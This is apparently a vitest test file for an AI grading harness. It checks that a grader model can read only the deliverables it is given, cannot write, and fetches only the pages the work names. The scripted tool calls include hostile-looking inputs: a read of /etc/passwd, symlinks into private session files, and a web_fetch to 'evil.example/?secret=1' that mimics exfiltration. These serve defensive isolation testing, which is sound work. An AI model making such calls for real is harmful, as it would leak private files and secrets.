// Goal: the grader reads what is handed over, whole and nothing else, and can change none of it.
// Method: as in grade.test.ts; what is looked at is what the model is sent.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { limits } from '#shared/core/limits.ts';
import { SandboxLost } from '#shared/tools/sandbox.ts';
import { call, calls } from '../../model/replies.ts';
import { firstText } from '../../model/model.ts';
import { docx, pptx, xlsx } from './office.ts';
import { entry, lastTold, OUT, startGradeRig, submit, wireOf, type GradeRig } from './rig.ts';

let rig: GradeRig;
beforeAll(async () => {
  rig = await startGradeRig();
});
afterAll(async () => {
  await rig.stop();
});
/** Requests of the test that runs. */
let from = 0;
const requests = () => rig.model.requests.slice(from);
afterEach(() => {
  from = rig.model.requests.length;
});

const REPORT = `${OUT}/report.md`;
const text = 'Yield was 4.2 t/ha.\n\nSource: the farm’s own books.\n';
const met = [
  entry('c1', 'met', { path: REPORT, quote: 'Yield was 4.2 t/ha.' }),
  entry('c2', 'met', { path: REPORT, quote: "Source: the farm's own  books" }),
] as const;

/** Each script belongs to the session's own task, so that tests do not hear each other. */
async function run(
  replies: readonly Parameters<typeof rig.model.on>[1][],
  files: Readonly<Record<string, string | Uint8Array>> = { [REPORT]: text },
  patch: Parameters<typeof rig.grade>[1] = {},
) {
  const session_id = await rig.session(files);
  const description = `Task of ${session_id}: write a report.`;
  rig.model.on(description, ...replies);
  return await rig.grade(session_id, { description, ...patch });
}

describe('reading', () => {
  test('shows documents of offices as text', async () => {
    const files = {
      [`${OUT}/a.docx`]: docx({ paragraphs: ['Words of Word'] }),
      [`${OUT}/b.xlsx`]: xlsx([{ name: 'Assumptions', cells: { B2: 7 } }]),
      [`${OUT}/c.pptx`]: pptx([['Slide words']]),
    };
    const paths = Object.keys(files);
    const verdict = await run(
      [
        calls(...paths.map((path) => ['read', { path }] as const)),
        submit(
          entry('c1', 'met', { path: `${OUT}/b.xlsx`, quote: 'Assumptions B2: 7' }),
          entry('c2', 'met', { path: `${OUT}/a.docx`, quote: 'Words of Word' }),
        ),
      ],
      files,
    );
    const told = lastTold(requests()[1] as never);
    for (const words of ['Words of Word', 'Sheet 1 of 1: Assumptions', 'B2: 7', 'Slide words']) {
      expect(told).toContain(words);
    }
    expect(verdict.result).toBe('satisfied');
  });

  test('gives a long text in pieces and says how to go on', async () => {
    const long = `${'x'.repeat(limits.grader_piece_chars_max)}the end of it`;
    await run(
      [
        call('read', { path: REPORT }),
        call('read', { path: REPORT, offset: limits.grader_piece_chars_max }),
        submit(...met),
        submit(...met),
      ],
      { [REPORT]: long },
    );
    const [, first, second] = requests();
    expect(lastTold(first as never)).toContain(
      `characters 0 to 40000 of ${long.length}. There is more: go on with offset 40000.`,
    );
    expect(lastTold(second as never)).toContain('the end of it');
  });

  test('tells a wrong call what is wrong', async () => {
    const wrong = calls(
      ['read', { file: 'x' }],
      ['read', { path: '/etc/passwd' }],
      ['read', { path: `${OUT}/none` }],
      ['write', { path: REPORT, content: 'x' }],
      ['web_fetch', { url: 'https://example.com' }],
    );
    await run([wrong, submit(...met)]);
    const told = lastTold(requests()[1] as never);
    expect(told).toContain('outside of the session');
    expect(told).toContain('There is no file');
    expect(told).toContain('There is no tool');
    expect(told.match(/"is_error":true/g)).toHaveLength(5);
  });

  test('ends when the time is nearly over', async () => {
    const session_id = await rig.session({ [REPORT]: text });
    rig.model.on('Late one', call('read', { path: REPORT }), submit(...met));
    const deadline_ms = Date.now() + limits.grader_reserve_ms - 1_000;
    const verdict = await rig.grade(session_id, { description: 'Late one' }, { deadline_ms });
    expect(lastTold(requests()[1] as never)).toContain('There is no room');
    expect(verdict.result).toBe('satisfied');
  });

  test('ends when the model’s window is nearly full', async () => {
    const model = { id: 'claude-haiku-4-5' };
    const read = call('read', { path: REPORT });
    const usage = { input_tokens: 150_000 };
    await run([{ ...read, usage }, read, submit(...met)], { [REPORT]: text }, { model });
    expect(lastTold(requests()[1] as never)).toContain('There is no room');
  });

  test('sees what is handed over and what the task names, through no link', async () => {
    const session_id = await rig.session({
      [REPORT]: text,
      '/workspace/data/in.csv': 'named',
      '/workspace/notes.md': 'private notes',
      '/mnt/session/tool_outputs/sevt_1.txt': 'private output',
    });
    const link = {
      command: `ln -s /workspace/notes.md ${OUT}/link.md; ln -s /mnt/session ${OUT}/all`,
    };
    await rig.tools.runner.run(
      {
        session_id,
        workspace_id: 'wrkspc_1',
        thread_id: 'sthr_1',
        event_id: 'sevt_2',
        name: 'bash',
        input: link,
        environment: { networking: { type: 'limited', allowed_hosts: [] } },
      },
      new AbortController().signal,
    );
    const description = 'Sum up `/workspace/data/in.csv`, see /mnt/session.';
    rig.model.on(
      description,
      calls(
        ['read', { path: `${OUT}/link.md` }],
        ['read', { path: '/workspace/notes.md' }],
        ['read', { path: `${OUT}/all/tool_outputs/sevt_1.txt` }],
        ['grep', { pattern: 'private', path: '/' }],
        ['grep', { pattern: 'private', path: '/workspace' }],
        ['glob', { pattern: '**/*', path: '/workspace' }],
        ['read', { path: '/workspace/data/in.csv' }],
      ),
      submit(...met),
    );
    expect((await rig.grade(session_id, { description })).result).toBe('satisfied');
    const told = lastTold(requests()[1] as never);
    expect(requests().map(wireOf).join('\n')).not.toMatch(/private (notes|output)/);
    expect(told).toContain('named');
    expect(told).toContain('\\n/workspace/data/in.csv\\n');
  });

  test('shows no more documents than a request can hold', async () => {
    const path = `${OUT}/a.pdf`;
    const pdf = Buffer.alloc(limits.read_media_bytes_max, '%PDF-');
    const reads = Array.from({ length: 5 }, () => ['read', { path }] as const);
    await run([calls(...reads), submit(entry('c1', 'not_met'), entry('c2', 'not_met'))], {
      [path]: pdf,
    });
    const told = lastTold(requests()[1] as never);
    expect(told.match(/"type":"document"/g)).toHaveLength(4);
    expect(told).toContain('No more images or documents');
  });

  test('goes on when the sandbox is lost, and says so when it is lost again', async () => {
    const { sandbox } = rig.tools;
    for (const losses of [1, 2]) {
      const session_id = await rig.session({ [REPORT]: text });
      rig.model.on(`lost ${session_id}`, call('read', { path: REPORT }), submit(...met));
      let left = losses;
      sandbox.before = () => {
        if (left-- > 0) throw new SandboxLost('it ran out of time');
      };
      const verdict = await rig.grade(session_id, { description: `lost ${session_id}` });
      expect(verdict.result).toBe('satisfied');
      const told = lastTold(requests().at(-1) as never);
      expect(told.includes('could not be read (it ran out of time)')).toBe(losses === 2);
    }
    sandbox.before = () => {};
  });

  test('changes no file of the session', async () => {
    const session_id = await rig.session({ [REPORT]: 'x\n'.repeat(5_000) });
    const before = await rig.tools.files.list(session_id, '/mnt/session');
    rig.model.on(
      `only ${session_id}`,
      calls(['grep', { pattern: 'x' }], ['glob', { pattern: '**' }]),
      submit(...met),
      submit(...met),
    );
    await rig.grade(session_id, { description: `only ${session_id}` });
    const told = lastTold(requests()[1] as never);
    expect(told).toContain('this is its beginning. The session has no room for the rest.');
    expect(await rig.tools.files.list(session_id, '/mnt/session')).toEqual(before);
  });
});

describe('the wire', () => {
  test('says a long rubric once', async () => {
    const rubric = `- It names the yield. ${'More words. '.repeat(10_000)}the last word`;
    const one = submit(entry('c1', 'met', ...met[0].evidence));
    const verdict = await run([one], { [REPORT]: text }, { rubric });
    expect(verdict.result).toBe('satisfied');
    expect(wireOf(requests()[0] as never).match(/the last word/g)).toHaveLength(1);
  });

  test('holds task, rubric and deliverables, marked off by a code that no file can hold', async () => {
    await run([submit(...met)], { [REPORT]: text, [`${OUT}/a\nb.txt`]: 'x' });
    const [request] = requests();
    const brief = firstText(request?.body as never);
    const [, code] = /<task-([0-9A-Z]{26})>/.exec(brief) ?? [];
    expect(brief.split(`</deliverable-${code}>`)).toHaveLength(2);
    expect(brief).toContain('It names the yield.');
    expect(brief).toContain('a\\nb.txt');
    expect(request?.body.tools?.map((tool) => 'name' in tool && tool.name)).toEqual([
      'list',
      'read',
      'glob',
      'grep',
      'submit_verdict',
    ]);
  });

  test('is the same for a grading that is done again, but for its code', async () => {
    const session_id = await rig.session({ [REPORT]: text });
    const description = `Again ${session_id}`;
    rig.model.on(description, submit(...met), submit(...met));
    const first = await rig.grade(session_id, { description });
    const second = await rig.grade(session_id, { description });
    const [a, b] = requests().map((request) => wireOf(request).replaceAll(/[0-9A-Z]{26}/g, ''));
    expect(a).toBe(b);
    expect(second.criteria).toEqual(first.criteria);
  });
});

describe('web_fetch', () => {
  let server: Server;
  let web: GradeRig;
  const asked: string[] = [];
  beforeAll(async () => {
    server = createServer((request, response) => {
      asked.push(`${request.headers.host}${request.url}`);
      response.writeHead(200, { 'content-type': 'text/plain' }).end('The yield was 4.2 t/ha.');
    });
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    web = await startGradeRig((server.address() as AddressInfo).port);
  });
  afterAll(async () => {
    await web.stop();
    server.close();
  });

  test('gives pages that the work names, as evidence too; no address that is made up', async () => {
    const source = 'http://farm.example/yield';
    const session_id = await web.session({ [REPORT]: `Source: ${source}` });
    web.model.on(
      'Fetch it',
      calls(
        ['web_fetch', { url: 'http://evil.example/?secret=1' }],
        ['web_fetch', { url: source }],
      ),
      call('read', { path: REPORT }),
      call('web_fetch', { url: source }),
      submit(
        entry('c1', 'met', { path: source, quote: 'yield was 4.2 t/ha' }),
        entry('c2', 'met', { path: REPORT, quote: source }),
      ),
    );
    const verdict = await web.grade(session_id, { description: 'Fetch it', web: {} });
    expect(verdict.result).toBe('satisfied');
    expect(asked).toEqual(['farm.example/yield']);
    expect(verdict.usage.web_fetch_requests).toBe(1);
  });
});
